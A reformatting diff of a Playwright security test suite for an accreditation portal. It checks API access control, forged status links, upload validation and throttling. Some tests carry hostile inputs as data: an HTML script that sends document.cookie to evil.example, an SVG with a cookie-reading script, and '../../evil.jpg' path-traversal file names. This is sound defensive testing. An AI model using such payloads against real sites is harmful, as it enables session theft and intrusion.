@@ -29,17 +29,28 @@ const PRIVATE_FILES = path.join(PORTAL_DIR, 'data', 'private', 'applicant-files'
 /** A name and an ID number nobody else has, so a leak of either can be spotted in any response. */
 function uniqueApplicant() {
   const letters = 'abcdeghiklmnopqrstuvxy'
-  const word = () => `Đ${Array.from({ length: 6 }, () => letters[randomInt(letters.length)]).join('')}`
-  return { fullName: `Kiểm ${word()} ${word()}`, idNumber: `0961900${String(randomInt(100_000)).padStart(5, '0')}` }
+  const word = () =>
+    `Đ${Array.from({ length: 6 }, () => letters[randomInt(letters.length)]).join('')}`
+  return {
+    fullName: `Kiểm ${word()} ${word()}`,
+    idNumber: `0961900${String(randomInt(100_000)).padStart(5, '0')}`,
+  }
 }
 
 /** The headers a browser on the site itself sends: Astro refuses form posts from other origins. */
 const FROM_SITE = { Origin: SITE, Accept: 'application/json' }
 
-type Posted = { status: number; json: { ok?: boolean; redirect?: string; errors?: Record<string, string> } | null }
+type Posted = {
+  status: number
+  json: { ok?: boolean; redirect?: string; errors?: Record<string, string> } | null
+}
 
 async function postForm(request: APIRequestContext, form: FormData): Promise<Posted> {
-  const response = await request.post(`${SITE}/accreditation/`, { multipart: form, headers: FROM_SITE, maxRedirects: 0 })
+  const response = await request.post(`${SITE}/accreditation/`, {
+    multipart: form,
+    headers: FROM_SITE,
+    maxRedirects: 0,
+  })
   return { status: response.status(), json: await response.json().catch(() => null) }
 }
 
@@ -49,7 +60,6 @@ async function tokenFor(form: FormData): Promise<string> {
   const mail = await waitForMail((m) => m.to.includes(email) && /DH\d*-\d{4}/.test(m.subject))
   return /\/accreditation\/status\/([^/]+)\//.exec(statusLinkIn(mail))![1]!
 }
-
 
 const applicant = uniqueApplicant()
 let requestId = ''
@@ -64,7 +74,12 @@ const CALLERS = [
 const callers = new Map<string, APIRequestContext>()
 
 async function counts() {
-  const total = async (collection: string) => ((await (await officer.get(`${CMS}/api/${collection}?limit=1&depth=0`)).json()) as { totalDocs: number }).totalDocs
+  const total = async (collection: string) =>
+    (
+      (await (await officer.get(`${CMS}/api/${collection}?limit=1&depth=0`)).json()) as {
+        totalDocs: number
+      }
+    ).totalDocs
   return {
     requests: await total('accreditation-requests'),
     files: await total('applicant-files'),
@@ -93,9 +108,15 @@ test.beforeAll(async ({ playwright, request }) => {
   statusToken = await tokenFor(form)
   requestId = statusToken.split('.')[0]!
   officer = await signIn(playwright, staffEmail('accreditation-officer'))
-  const doc = (await (await officer.get(`${CMS}/api/accreditation-requests/${requestId}?depth=1`)).json()) as Record<string, { id: number; filename: string }>
+  const doc = (await (
+    await officer.get(`${CMS}/api/accreditation-requests/${requestId}?depth=1`)
+  ).json()) as Record<string, { id: number; filename: string }>
   storedFiles = [doc.portrait!, doc.letter!]
-  for (const { who, role } of CALLERS) callers.set(who, role ? await signIn(playwright, staffEmail(role)) : await playwright.request.newContext())
+  for (const { who, role } of CALLERS)
+    callers.set(
+      who,
+      role ? await signIn(playwright, staffEmail(role)) : await playwright.request.newContext(),
+    )
 })
 
 test.afterAll(async () => {
@@ -106,7 +127,9 @@ const GRAPHQL_LIST = '{ AccreditationRequests { docs { fullName idNumber } } }'
 const graphqlOne = (id: string) => `{ AccreditationRequest(id: ${id}) { fullName idNumber } }`
 
 test('the accreditation officer can read the application and its files (the control for the tests below)', async () => {
-  const doc = (await (await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)).json()) as { fullName: string; idNumber: string }
+  const doc = (await (
+    await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)
+  ).json()) as { fullName: string; idNumber: string }
   expect([doc.fullName, doc.idNumber]).toEqual([applicant.fullName, applicant.idNumber])
   const list = await (await officer.get(`${CMS}/api/accreditation-requests?limit=100`)).text()
   expect(list).toContain(applicant.idNumber)
@@ -114,17 +137,23 @@ test('the accreditation officer can read the application and its files (the cont
   expect(portrait.status()).toBe(200)
   expect(portrait.headers()['content-type']).toBe('image/jpeg')
   expect([...(await portrait.body()).subarray(0, 2)]).toEqual([0xff, 0xd8])
-  expect((await officer.get(`${CMS}/api/applicant-files/file/${storedFiles[1]!.filename}`)).status()).toBe(200)
+  expect(
+    (await officer.get(`${CMS}/api/applicant-files/file/${storedFiles[1]!.filename}`)).status(),
+  ).toBe(200)
   expect((await officer.get(`${CMS}/api/applicant-files/${storedFiles[0]!.id}`)).status()).toBe(200)
   // GraphQL is switched off for everyone, staff included: one less door to guard.
-  expect((await officer.post(`${CMS}/api/graphql`, { data: { query: graphqlOne(requestId) } })).status()).toBe(404)
+  expect(
+    (await officer.post(`${CMS}/api/graphql`, { data: { query: graphqlOne(requestId) } })).status(),
+  ).toBe(404)
 })
 
 for (const { who, role } of CALLERS) {
   test(`${who} gets no personal data from the REST or GraphQL API`, async () => {
     const api = callers.get(who)!
     // The token is real: the API knows who is calling (and an anonymous caller is nobody).
-    const me = (await (await api.get(`${CMS}/api/users/me`)).json()) as { user: { email: string } | null }
+    const me = (await (await api.get(`${CMS}/api/users/me`)).json()) as {
+      user: { email: string } | null
+    }
     expect(me.user?.email ?? null).toBe(role ? staffEmail(role) : null)
     const reads = [
       '/api/accreditation-requests',
@@ -142,7 +171,10 @@ for (const { who, role } of CALLERS) {
       const response = await api.get(CMS + address)
       const body = await response.text()
       expectNoPersonalData(body, `${who}: GET ${address}`)
-      if (response.status() === 200) expect((JSON.parse(body) as { docs?: unknown[] }).docs, `${who}: GET ${address}`).toEqual([])
+      if (response.status() === 200)
+        expect((JSON.parse(body) as { docs?: unknown[] }).docs, `${who}: GET ${address}`).toEqual(
+          [],
+        )
       // A refusal looks like absence: nothing confirms that the request or file exists.
       else expect(response.status(), `${who}: GET ${address}`).toBe(404)
     }
@@ -154,7 +186,9 @@ for (const { who, role } of CALLERS) {
   })
 }
 
-test('forged, guessed and path-traversing status links get the 404 page and no file', async ({ request }) => {
+test('forged, guessed and path-traversing status links get the 404 page and no file', async ({
+  request,
+}) => {
   const [id, carried, mac] = statusToken.split('.') as [string, string, string]
   const flipped = `${mac.slice(0, -1)}${mac.endsWith('A') ? 'B' : 'A'}`
   const forged = [
@@ -186,27 +220,45 @@ test('forged, guessed and path-traversing status links get the 404 page and no f
   const genuine = await request.get(`${SITE}/accreditation/status/${statusToken}/`)
   expect(genuine.status()).toBe(200)
   expect(await genuine.text()).toContain(applicant.fullName)
-  expect((await request.get(`${SITE}/accreditation/status/${statusToken}/portrait`)).headers()['content-type']).toBe('image/jpeg')
+  expect(
+    (await request.get(`${SITE}/accreditation/status/${statusToken}/portrait`)).headers()[
+      'content-type'
+    ],
+  ).toBe('image/jpeg')
 })
 
 /** Posts the status page's two forms (withdraw, answer) to a link; resolves to the two statuses. */
 async function postStatusForms(request: APIRequestContext, link: string) {
-  const withdraw = await request.post(link, { form: { action: 'withdraw', confirm: 'on' }, headers: { Origin: SITE }, maxRedirects: 0 })
-  const answer = await request.post(link, { multipart: { action: 'answer', answer: 'Tôi là kẻ giả mạo.' }, headers: { Origin: SITE }, maxRedirects: 0 })
-  for (const response of [withdraw, answer]) expectNoPersonalData(await response.text(), `POST ${link}`)
+  const withdraw = await request.post(link, {
+    form: { action: 'withdraw', confirm: 'on' },
+    headers: { Origin: SITE },
+    maxRedirects: 0,
+  })
+  const answer = await request.post(link, {
+    multipart: { action: 'answer', answer: 'Tôi là kẻ giả mạo.' },
+    headers: { Origin: SITE },
+    maxRedirects: 0,
+  })
+  for (const response of [withdraw, answer])
+    expectNoPersonalData(await response.text(), `POST ${link}`)
   return [withdraw.status(), answer.status()]
 }
 
-const forgedLink = () => `${SITE}/accreditation/status/${statusToken.split('.')[0]}.${randomBytes(32).toString('base64url')}.${randomBytes(16).toString('base64url')}/`
+const forgedLink = () =>
+  `${SITE}/accreditation/status/${statusToken.split('.')[0]}.${randomBytes(32).toString('base64url')}.${randomBytes(16).toString('base64url')}/`
 
 test('a forged status link cannot withdraw or answer the application', async ({ request }) => {
   const statuses = await postStatusForms(request, forgedLink())
   for (const status of statuses) expect(status).toBeGreaterThanOrEqual(400)
-  const doc = (await (await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)).json()) as { status: string; applicantAnswer: string | null }
+  const doc = (await (
+    await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)
+  ).json()) as { status: string; applicantAnswer: string | null }
   expect([doc.status, doc.applicantAnswer]).toEqual(['submitted', null])
 })
 
-test('a form posted to a forged status link gets the 404 page, not a server error', async ({ request }) => {
+test('a form posted to a forged status link gets the 404 page, not a server error', async ({
+  request,
+}) => {
   expect(await postStatusForms(request, forgedLink())).toEqual([404, 404])
 })
 
@@ -229,10 +281,15 @@ test('paths that try to leave the public upload folder get a 404', async ({ requ
 })
 
 test.describe('bad input to the application form', () => {
-  const validForm = () => applicationForm({ ...uniqueApplicant(), email: `bad.input.${Date.now()}@example.vn` })
+  const validForm = () =>
+    applicationForm({ ...uniqueApplicant(), email: `bad.input.${Date.now()}@example.vn` })
   const withPortrait = async (bytes: Buffer | string, name: string, type: string) => {
     const form = await validForm()
-    form.set('portrait', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name)
+    form.set(
+      'portrait',
+      new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }),
+      name,
+    )
     return form
   }
   const expectPortraitError = async (request: APIRequestContext, form: FormData, code: string) => {
@@ -243,7 +300,10 @@ test.describe('bad input to the application form', () => {
 
   test('a JSON body is not a form', async ({ request }) => {
     await storesNothing(async () => {
-      const response = await request.post(`${SITE}/accreditation/`, { data: { fullName: applicant.fullName, idNumber: '096190012345' }, headers: FROM_SITE })
+      const response = await request.post(`${SITE}/accreditation/`, {
+        data: { fullName: applicant.fullName, idNumber: '096190012345' },
+        headers: FROM_SITE,
+      })
       expect((await response.json()).errors).toEqual({ form: 'not_a_form' })
       return response.status()
     })
@@ -251,19 +311,34 @@ test.describe('bad input to the application form', () => {
 
   test('a malformed multipart body is refused, not a crash', async ({ request }) => {
     await storesNothing(async () => {
-      const body = Buffer.from('--XYZ\r\nContent-Disposition: form-data; name="fullName"\r\n\r\nunterminated', 'latin1')
-      const response = await request.post(`${SITE}/accreditation/`, { data: body, headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data; boundary=XYZ' } })
+      const body = Buffer.from(
+        '--XYZ\r\nContent-Disposition: form-data; name="fullName"\r\n\r\nunterminated',
+        'latin1',
+      )
+      const response = await request.post(`${SITE}/accreditation/`, {
+        data: body,
+        headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data; boundary=XYZ' },
+      })
       return response.status()
     })
     await storesNothing(async () => {
-      const response = await request.post(`${SITE}/accreditation/`, { data: Buffer.from('garbage'), headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data' } })
+      const response = await request.post(`${SITE}/accreditation/`, {
+        data: Buffer.from('garbage'),
+        headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data' },
+      })
       return response.status()
     })
   })
 
-  test('a 25 MB body is refused as too large, with or without a Content-Length', async ({ request }) => {
+  test('a 25 MB body is refused as too large, with or without a Content-Length', async ({
+    request,
+  }) => {
     await storesNothing(async () => {
-      const form = await withPortrait(Buffer.alloc(25 * 1024 * 1024, 0xff), 'huge.jpg', 'image/jpeg')
+      const form = await withPortrait(
+        Buffer.alloc(25 * 1024 * 1024, 0xff),
+        'huge.jpg',
+        'image/jpeg',
+      )
       const sent = await postForm(request, form)
       expect(sent.json?.errors?.form).toBe('too_large')
       return sent.status
@@ -273,74 +348,148 @@ test.describe('bad input to the application form', () => {
   })
 
   test('a PDF renamed .jpg is not taken as a portrait', async ({ request }) => {
-    await storesNothing(async () => expectPortraitError(request, await withPortrait(minimalPdf(), 'portrait.jpg', 'image/jpeg'), 'not_image'))
+    await storesNothing(async () =>
+      expectPortraitError(
+        request,
+        await withPortrait(minimalPdf(), 'portrait.jpg', 'image/jpeg'),
+        'not_image',
+      ),
+    )
   })
 
   test('an SVG is not taken as a portrait', async ({ request }) => {
-    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="800"><script>alert(document.cookie)</script></svg>'
-    await storesNothing(async () => expectPortraitError(request, await withPortrait(svg, 'portrait.jpg', 'image/jpeg'), 'svg'))
-    await storesNothing(async () => expectPortraitError(request, await withPortrait(`<?xml version="1.0"?>\n${svg}`, 'portrait.svg', 'image/svg+xml'), 'svg'))
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="800"><script>alert(document.cookie)</script></svg>'
+    await storesNothing(async () =>
+      expectPortraitError(request, await withPortrait(svg, 'portrait.jpg', 'image/jpeg'), 'svg'),
+    )
+    await storesNothing(async () =>
+      expectPortraitError(
+        request,
+        await withPortrait(`<?xml version="1.0"?>\n${svg}`, 'portrait.svg', 'image/svg+xml'),
+        'svg',
+      ),
+    )
   })
 
   test('an HTML file is not taken as a portrait', async ({ request }) => {
-    const html = '<!doctype html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script></body></html>'
-    await storesNothing(async () => expectPortraitError(request, await withPortrait(html, 'portrait.jpg', 'image/jpeg'), 'html'))
+    const html =
+      '<!doctype html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script></body></html>'
+    await storesNothing(async () =>
+      expectPortraitError(request, await withPortrait(html, 'portrait.jpg', 'image/jpeg'), 'html'),
+    )
   })
 
   test('a form posted from another site is refused', async ({ request }) => {
     await storesNothing(async () => {
-      const response = await request.post(`${SITE}/accreditation/`, { multipart: await validForm(), headers: { Origin: 'https://evil.example', Accept: 'application/json' } })
+      const response = await request.post(`${SITE}/accreditation/`, {
+        multipart: await validForm(),
+        headers: { Origin: 'https://evil.example', Accept: 'application/json' },
+      })
       return response.status()
     })
   })
 
-  test('a file name with path parts is ignored: the file is stored under a random name inside the private folder', async ({ request }) => {
+  test('a file name with path parts is ignored: the file is stored under a random name inside the private folder', async ({
+    request,
+  }) => {
     const before = await counts()
     const form = await withPortrait(await portraitJpeg(), '../../evil.jpg', 'image/jpeg')
-    form.set('letter', new Blob([new Uint8Array(minimalPdf())], { type: 'application/pdf' }), '../../../evil.pdf')
+    form.set(
+      'letter',
+      new Blob([new Uint8Array(minimalPdf())], { type: 'application/pdf' }),
+      '../../../evil.pdf',
+    )
     const sent = await postForm(request, form)
     expect(sent.status, JSON.stringify(sent.json)).toBe(200)
     const id = (await tokenFor(form)).split('.')[0]
-    const doc = (await (await officer.get(`${CMS}/api/accreditation-requests/${id}?depth=1`)).json()) as Record<string, { filename: string }>
+    const doc = (await (
+      await officer.get(`${CMS}/api/accreditation-requests/${id}?depth=1`)
+    ).json()) as Record<string, { filename: string }>
     for (const file of [doc.portrait!, doc.letter!]) {
       expect(file.filename).toMatch(/^[0-9a-f-]{36}\.(jpg|pdf)$/)
       expect(existsSync(path.join(PRIVATE_FILES, file.filename))).toBe(true)
     }
-    for (const dir of [PORTAL_DIR, path.join(PORTAL_DIR, 'data'), path.join(PORTAL_DIR, 'data', 'private'), PRIVATE_FILES, tmpdir()]) {
-      expect(existsSync(path.join(dir, 'evil.jpg')) || existsSync(path.join(dir, 'evil.pdf')), dir).toBe(false)
+    for (const dir of [
+      PORTAL_DIR,
+      path.join(PORTAL_DIR, 'data'),
+      path.join(PORTAL_DIR, 'data', 'private'),
+      PRIVATE_FILES,
+      tmpdir(),
+    ]) {
+      expect(
+        existsSync(path.join(dir, 'evil.jpg')) || existsSync(path.join(dir, 'evil.pdf')),
+        dir,
+      ).toBe(false)
     }
-    expect(await counts()).toEqual({ requests: before.requests + 1, files: before.files + 2, onDisk: before.onDisk + 2 })
+    expect(await counts()).toEqual({
+      requests: before.requests + 1,
+      files: before.files + 2,
+      onDisk: before.onDisk + 2,
+    })
   })
 
-  test('a replayed form (same idempotency key) returns the same reference and stores one application', async ({ request }) => {
+  test('a replayed form (same idempotency key) returns the same reference and stores one application', async ({
+    request,
+  }) => {
     const before = await counts()
     const form = await validForm()
     const first = await postForm(request, form)
     const again = await postForm(request, form)
     expect([first.status, again.status]).toEqual([200, 200])
     expect(again.json).toEqual(first.json)
-    expect(await counts()).toEqual({ requests: before.requests + 1, files: before.files + 2, onDisk: before.onDisk + 2 })
+    expect(await counts()).toEqual({
+      requests: before.requests + 1,
+      files: before.files + 2,
+      onDisk: before.onDisk + 2,
+    })
   })
 
-  test('a second application for an ID number that has applied is answered exactly like a new one, and only the first applicant hears of it', async ({ request }) => {
+  test('a second application for an ID number that has applied is answered exactly like a new one, and only the first applicant hears of it', async ({
+    request,
+  }) => {
     const person = uniqueApplicant()
-    const [ownerEmail, strangerEmail, freshEmail] = ['owner', 'stranger', 'fresh'].map((who) => `dup.${who}.${Date.now()}@example.vn`) as [string, string, string]
+    const [ownerEmail, strangerEmail, freshEmail] = ['owner', 'stranger', 'fresh'].map(
+      (who) => `dup.${who}.${Date.now()}@example.vn`,
+    ) as [string, string, string]
     await postForm(request, await applicationForm({ ...person, email: ownerEmail }))
     await waitForMail((m) => m.to.includes(ownerEmail))
     const before = await counts()
     const plain = async (form: FormData) => {
-      const response = await request.post(`${SITE}/accreditation/`, { multipart: form, headers: { Origin: SITE }, maxRedirects: 0 })
+      const response = await request.post(`${SITE}/accreditation/`, {
+        multipart: form,
+        headers: { Origin: SITE },
+        maxRedirects: 0,
+      })
       return { status: response.status(), location: response.headers()['location'] }
     }
-    const duplicate = await postForm(request, await applicationForm({ ...person, email: strangerEmail }))
-    const fresh = await postForm(request, await applicationForm({ ...uniqueApplicant(), email: freshEmail }))
+    const duplicate = await postForm(
+      request,
+      await applicationForm({ ...person, email: strangerEmail }),
+    )
+    const fresh = await postForm(
+      request,
+      await applicationForm({ ...uniqueApplicant(), email: freshEmail }),
+    )
     expect(duplicate).toEqual(fresh)
     expect(JSON.stringify(duplicate.json)).not.toContain('/status/')
-    expect(await plain(await applicationForm({ ...person, email: strangerEmail }))).toEqual(await plain(await applicationForm({ ...uniqueApplicant(), email: `dup.other.${Date.now()}@example.vn` })))
+    expect(await plain(await applicationForm({ ...person, email: strangerEmail }))).toEqual(
+      await plain(
+        await applicationForm({
+          ...uniqueApplicant(),
+          email: `dup.other.${Date.now()}@example.vn`,
+        }),
+      ),
+    )
     expect((await counts()).requests).toBe(before.requests + 2)
-    const reminder = await waitForMail((m) => m.to.includes(ownerEmail) && m.subject.includes('đã tồn tại'))
+    const reminder = await waitForMail(
+      (m) => m.to.includes(ownerEmail) && m.subject.includes('đã tồn tại'),
+    )
     expect(statusLinkIn(reminder)).toContain('/accreditation/status/')
-    expect((await allMail()).some((m) => m.to.includes(strangerEmail)), 'the stranger was told something').toBe(false)
+    expect(
+      (await allMail()).some((m) => m.to.includes(strangerEmail)),
+      'the stranger was told something',
+    ).toBe(false)
   })
 })
 
@@ -353,7 +502,9 @@ test('hammering a forged status link is throttled with 429', async ({ request })
   const statuses: number[] = []
   let throttled: APIResponse | undefined
   for (let round = 0; round < 50 && !throttled; round++) {
-    const responses = await Promise.all(Array.from({ length: 10 }, () => request.get(forged, { headers: client })))
+    const responses = await Promise.all(
+      Array.from({ length: 10 }, () => request.get(forged, { headers: client })),
+    )
     statuses.push(...responses.map((r) => r.status()))
     throttled = responses.find((r) => r.status() === 429)
   }
@@ -371,14 +522,20 @@ function postChunked(megabytes: number): Promise<number> {
       port: url.port,
       path: url.pathname,
       method: 'POST',
-      headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data; boundary=XYZ', 'Transfer-Encoding': 'chunked' },
+      headers: {
+        ...FROM_SITE,
+        'Content-Type': 'multipart/form-data; boundary=XYZ',
+        'Transfer-Encoding': 'chunked',
+      },
     })
     req.on('response', (response) => {
       response.resume()
       response.on('end', () => resolve(response.statusCode ?? 0))
     })
     req.on('error', reject)
-    req.write('--XYZ\r\nContent-Disposition: form-data; name="portrait"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n')
+    req.write(
+      '--XYZ\r\nContent-Disposition: form-data; name="portrait"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n',
+    )
     const megabyte = Buffer.alloc(1024 * 1024, 0xff)
     for (let i = 0; i < megabytes; i++) req.write(megabyte)
     req.end('\r\n--XYZ--\r\n')
